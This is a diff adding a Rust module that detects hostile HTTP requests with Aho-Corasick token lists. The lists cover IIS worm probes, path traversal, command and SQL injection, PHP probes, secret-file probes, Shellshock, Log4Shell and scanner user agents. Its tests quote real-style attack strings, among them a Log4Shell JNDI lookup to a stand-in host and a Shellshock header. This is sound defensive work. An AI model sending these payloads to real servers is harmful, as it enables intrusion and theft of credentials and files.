@@ -1,0 +1,298 @@
+//! Requests that no legitimate client sends: exploit attempts, probes for vulnerable software
+//! and files, and the user agents of attack tools. Each token belongs to a [`Category`]; a
+//! request's matches are a bit set of categories, found in one pass of an Aho-Corasick
+//! automaton over the target (case-insensitive, as logged: encoded forms are listed as such)
+//! and one over the user agent and referer.
+//!
+//! The list is levee's own, drawn from what honeypots and public scanners send. Tokens are
+//! chosen so that a normal site's pages do not contain them; a category only counts as
+//! hostile evidence, and the verdict weighs it with the client's other behaviour.
+
+use aho_corasick::AhoCorasick;
+
+/// Kinds of hostile request.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+#[repr(u8)]
+pub enum Category {
+    /// Code Red / Nimda era IIS probes: `cmd.exe`, `root.exe`, `default.ida`, Unicode and
+    /// double-encoded directory traversal into `winnt/system32`.
+    IisWorm,
+    /// FrontPage server extension exploits (`fp30reg.dll`, `_vti_bin`).
+    FrontPage,
+    /// `../` and its encodings, and the files traversal aims at.
+    PathTraversal,
+    /// Shell commands in the request (`| id |`, `;wget`, `/bin/sh`).
+    CommandInjection,
+    SqlInjection,
+    /// Probes for vulnerable PHP applications and tools (awstats `configdir`, phpMyAdmin,
+    /// phpBB, phpunit `eval-stdin.php`, `php://` wrappers).
+    PhpProbe,
+    /// Probes for files that must never be served (`.env`, `.git/`, `wp-config.php`).
+    SensitiveFile,
+    /// `() {` of Shellshock in a header.
+    Shellshock,
+    /// `${jndi:` of Log4Shell anywhere.
+    Log4Shell,
+    /// The user agent of a scanner or attack tool (Nikto, sqlmap, masscan, zgrab, Nuclei...).
+    ScannerAgent,
+}
+
+impl Category {
+    pub const ALL: [Category; 10] = [
+        Category::IisWorm,
+        Category::FrontPage,
+        Category::PathTraversal,
+        Category::CommandInjection,
+        Category::SqlInjection,
+        Category::PhpProbe,
+        Category::SensitiveFile,
+        Category::Shellshock,
+        Category::Log4Shell,
+        Category::ScannerAgent,
+    ];
+
+    pub fn bit(self) -> u32 {
+        1 << self as u8
+    }
+
+    /// The category's name, as reasons and JSON carry it.
+    pub fn name(self) -> &'static str {
+        match self {
+            Category::IisWorm => "iis-worm-probe",
+            Category::FrontPage => "frontpage-exploit",
+            Category::PathTraversal => "path-traversal",
+            Category::CommandInjection => "command-injection",
+            Category::SqlInjection => "sql-injection",
+            Category::PhpProbe => "php-vulnerability-probe",
+            Category::SensitiveFile => "sensitive-file-probe",
+            Category::Shellshock => "shellshock",
+            Category::Log4Shell => "log4shell",
+            Category::ScannerAgent => "scanner-user-agent",
+        }
+    }
+
+    /// The categories of a bit set.
+    pub fn of_mask(mask: u32) -> impl Iterator<Item = Category> {
+        Category::ALL
+            .into_iter()
+            .filter(move |c| mask & c.bit() != 0)
+    }
+}
+
+/// Tokens looked for in the request target.
+const TARGET_TOKENS: &[(&str, Category)] = &[
+    ("cmd.exe", Category::IisWorm),
+    ("root.exe", Category::IisWorm),
+    ("default.ida", Category::IisWorm),
+    ("null.printer", Category::IisWorm),
+    ("/_mem_bin/", Category::IisWorm),
+    ("/msadc/", Category::IisWorm),
+    ("winnt/system32", Category::IisWorm),
+    ("%c0%af", Category::IisWorm),
+    ("%c1%1c", Category::IisWorm),
+    ("%c1%9c", Category::IisWorm),
+    ("%c0%2f", Category::IisWorm),
+    ("%255c", Category::IisWorm),
+    ("%%35c", Category::IisWorm),
+    ("%25%35%63", Category::IisWorm),
+    ("fp30reg.dll", Category::FrontPage),
+    ("/_vti_bin/", Category::FrontPage),
+    ("/_vti_aut/", Category::FrontPage),
+    ("/_vti_pvt/", Category::FrontPage),
+    ("shtml.exe", Category::FrontPage),
+    ("owssvr.dll", Category::FrontPage),
+    ("../", Category::PathTraversal),
+    ("..\\", Category::PathTraversal),
+    ("..%2f", Category::PathTraversal),
+    ("..%5c", Category::PathTraversal),
+    ("%2e%2e", Category::PathTraversal),
+    ("/etc/passwd", Category::PathTraversal),
+    ("/etc/shadow", Category::PathTraversal),
+    ("win.ini", Category::PathTraversal),
+    ("boot.ini", Category::PathTraversal),
+    ("|%20id%20|", Category::CommandInjection),
+    ("|id|", Category::CommandInjection),
+    (";id;", Category::CommandInjection),
+    ("%7cid%7c", Category::CommandInjection),
+    (";wget%20", Category::CommandInjection),
+    (";wget+", Category::CommandInjection),
+    ("wget%20http", Category::CommandInjection),
+    ("curl%20http", Category::CommandInjection),
+    ("/bin/sh", Category::CommandInjection),
+    ("/bin/bash", Category::CommandInjection),
+    (";cat%20", Category::CommandInjection),
+    ("union%20select", Category::SqlInjection),
+    ("union+select", Category::SqlInjection),
+    ("union%20all%20select", Category::SqlInjection),
+    ("%27%20or%20%271%27%3d%271", Category::SqlInjection),
+    ("'%20or%20'1'='1", Category::SqlInjection),
+    ("%20or%201=1", Category::SqlInjection),
+    ("sleep(", Category::SqlInjection),
+    ("sleep%28", Category::SqlInjection),
+    ("benchmark(", Category::SqlInjection),
+    ("information_schema", Category::SqlInjection),
+    ("xp_cmdshell", Category::SqlInjection),
+    ("awstats.pl?configdir", Category::PhpProbe),
+    ("configdir=|", Category::PhpProbe),
+    ("phpmyadmin", Category::PhpProbe),
+    ("/pma/", Category::PhpProbe),
+    ("eval-stdin.php", Category::PhpProbe),
+    ("php://", Category::PhpProbe),
+    ("allow_url_include", Category::PhpProbe),
+    ("phpinfo", Category::PhpProbe),
+    ("/cgi-bin/php", Category::PhpProbe),
+    ("xmlrpc.php", Category::PhpProbe),
+    ("/.env", Category::SensitiveFile),
+    ("/.git/", Category::SensitiveFile),
+    ("/.svn/", Category::SensitiveFile),
+    ("/.htpasswd", Category::SensitiveFile),
+    ("/.htaccess", Category::SensitiveFile),
+    ("/wp-config.php", Category::SensitiveFile),
+    ("/.aws/", Category::SensitiveFile),
+    ("/.ssh/", Category::SensitiveFile),
+    ("/id_rsa", Category::SensitiveFile),
+    ("/.ds_store", Category::SensitiveFile),
+    ("${jndi:", Category::Log4Shell),
+    ("$%7bjndi:", Category::Log4Shell),
+    ("%24%7bjndi", Category::Log4Shell),
+];
+
+/// Tokens looked for in the user agent and the referer.
+const AGENT_TOKENS: &[(&str, Category)] = &[
+    ("() {", Category::Shellshock),
+    ("${jndi:", Category::Log4Shell),
+    ("nikto", Category::ScannerAgent),
+    ("sqlmap", Category::ScannerAgent),
+    ("nmap", Category::ScannerAgent),
+    ("masscan", Category::ScannerAgent),
+    ("zgrab", Category::ScannerAgent),
+    ("nuclei", Category::ScannerAgent),
+    ("dirbuster", Category::ScannerAgent),
+    ("gobuster", Category::ScannerAgent),
+    ("feroxbuster", Category::ScannerAgent),
+    ("fuzz faster u fool", Category::ScannerAgent),
+    ("wpscan", Category::ScannerAgent),
+    ("acunetix", Category::ScannerAgent),
+    ("nessus", Category::ScannerAgent),
+    ("openvas", Category::ScannerAgent),
+    ("w3af", Category::ScannerAgent),
+    ("havij", Category::ScannerAgent),
+    ("morfeus", Category::ScannerAgent),
+    ("zmeu", Category::ScannerAgent),
+    ("jorgee", Category::ScannerAgent),
+];
+
+/// The two automatons, built once.
+pub struct Patterns {
+    target: AhoCorasick,
+    agent: AhoCorasick,
+}
+
+impl Default for Patterns {
+    fn default() -> Self {
+        Patterns::new()
+    }
+}
+
+impl Patterns {
+    pub fn new() -> Patterns {
+        let build = |tokens: &[(&str, Category)]| {
+            AhoCorasick::builder()
+                .ascii_case_insensitive(true)
+                .build(tokens.iter().map(|t| t.0))
+                .expect("the token lists are valid patterns")
+        };
+        Patterns {
+            target: build(TARGET_TOKENS),
+            agent: build(AGENT_TOKENS),
+        }
+    }
+
+    /// The categories a request's target, user agent and referer fall into.
+    pub fn scan(&self, target: &str, agent: Option<&str>, referer: Option<&str>) -> u32 {
+        let mut mask = 0;
+        for m in self.target.find_overlapping_iter(target) {
+            mask |= TARGET_TOKENS[m.pattern().as_usize()].1.bit();
+        }
+        for text in [agent, referer].into_iter().flatten() {
+            for m in self.agent.find_overlapping_iter(text) {
+                mask |= AGENT_TOKENS[m.pattern().as_usize()].1.bit();
+            }
+        }
+        mask
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn names(mask: u32) -> Vec<&'static str> {
+        Category::of_mask(mask).map(Category::name).collect()
+    }
+
+    #[test]
+    fn exploit_requests_of_real_honeypot_logs_fall_into_their_categories() {
+        let p = Patterns::new();
+        for (target, want) in [
+            (
+                "/scripts/..%255c%255c../winnt/system32/cmd.exe?/c+dir",
+                vec!["iis-worm-probe"],
+            ),
+            ("/default.ida?XXXX%u9090%u6858=a", vec!["iis-worm-probe"]),
+            ("/_vti_bin/_vti_aut/fp30reg.dll", vec!["frontpage-exploit"]),
+            (
+                "//cgi-bin/awstats.pl?configdir=|%20id%20|",
+                vec!["command-injection", "php-vulnerability-probe"],
+            ),
+            (
+                "/index.php?page=../../../../etc/passwd",
+                vec!["path-traversal"],
+            ),
+            (
+                "/item?id=1%20UNION%20SELECT%20password%20FROM%20users",
+                vec!["sql-injection"],
+            ),
+            ("/.git/config", vec!["sensitive-file-probe"]),
+            (
+                "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+                vec!["php-vulnerability-probe"],
+            ),
+            ("/?x=${jndi:ldap://evil/a}", vec!["log4shell"]),
+        ] {
+            assert_eq!(names(p.scan(target, None, None)), want, "{target}");
+        }
+        assert_eq!(
+            names(p.scan("/", Some("() { :; }; /bin/bash -c id"), None)),
+            ["shellshock"]
+        );
+        assert_eq!(
+            names(p.scan("/", Some("Mozilla/5.00 (Nikto/2.1.6)"), None)),
+            ["scanner-user-agent"]
+        );
+    }
+
+    #[test]
+    fn ordinary_pages_assets_and_browsers_match_nothing() {
+        let p = Patterns::new();
+        for target in [
+            "/",
+            "/index.html",
+            "/static/app.3f2a.js",
+            "/img/logo.png",
+            "/search?q=select+shoes&page=2",
+            "/blog/2024/05/union-station-photos",
+            "/products/1234?color=red",
+            "/login",
+            "/api/v1/orders?since=2026-01-01",
+            "/forum/viewforum.php?f=2",
+        ] {
+            let ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36";
+            assert_eq!(
+                p.scan(target, Some(ua), Some("https://shop.example/")),
+                0,
+                "{target}"
+            );
+        }
+    }
+}
